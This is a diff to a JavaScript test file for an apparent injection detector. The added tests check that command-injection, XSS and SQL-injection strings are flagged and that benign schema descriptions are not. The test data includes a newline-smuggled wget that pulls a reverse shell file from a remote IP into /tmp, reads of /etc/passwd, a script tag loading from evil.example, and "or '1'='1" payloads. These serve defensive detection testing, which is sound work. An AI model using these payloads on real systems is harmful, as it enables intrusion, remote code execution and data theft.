@@ -1855,3 +1855,13 @@ t.test('twenty-seventh round (spent parts): a whole value that is one substituti
   for (const v of ['param=value\nwhoami', 'vuln=127.0.0.1 \n wget https://203.0.113.7/reverse.txt -O /tmp/reverse.php', 'a=ls\n$a', 'Qname=root\ncat /etc/passwd']) t.ok(q(v).includes('rce'), JSON.stringify(v))
   for (const v of ['name=foodforthought.jpg\necho ${name##*fo}\n', 'name=John\necho "Hello $name"', 'scale=2\nprint "\\nCheck book program!\\n"\nprint "  Exit by a 0 transaction.\\n\\n"']) t.same(json({ snippet: v }), [], JSON.stringify(v))
 })
+
+t.test("twenty-seventh round (SchemaStore's schemas, measured once, then tuned on): a tag named in prose, a usage's choices, a quoted keyword a sentence goes on after", async (t) => {
+  t.same(json({ description: 'Set a list of JavaScript files in your docs_dir to be included by the theme, as <script> tags.' }), [], 'a tag named with the word tag')
+  t.same(json({ description: "Loaded as <script type='module'> elements by the page." }), [], 'with its type')
+  for (const v of ['<svg onload=alert(1)> tags', '<script src=//evil.example/x.js> tags', '<script>alert(1)</script> tags']) t.ok(q(v).includes('xss'), `${v}: a handler or a source still counts`)
+  t.same(json({ description: '[collapse|expand|end-expand|none][,preserve-inline]  [JS,HTML]' }), [], "a usage's choices in brackets")
+  for (const v of ['x|id', 'a [b|id', '[x] | id -a']) t.ok(q(v).includes('rce'), `${v}: a pipe outside the choices still is one`)
+  for (const v of ['combined with an "OR" relationship - only one of the ranges needs to match', "A list of conditions to join using 'or'.", "type 'or' here"]) t.same(q(v), [], v)
+  for (const v of ["x' or 'a'='a", "'or'1'='1", "admin' or '1", "search term' or 'a", "type 'or' 1=1"]) t.ok(q(v).includes('sqli'), `${v}: still an injection`)
+})
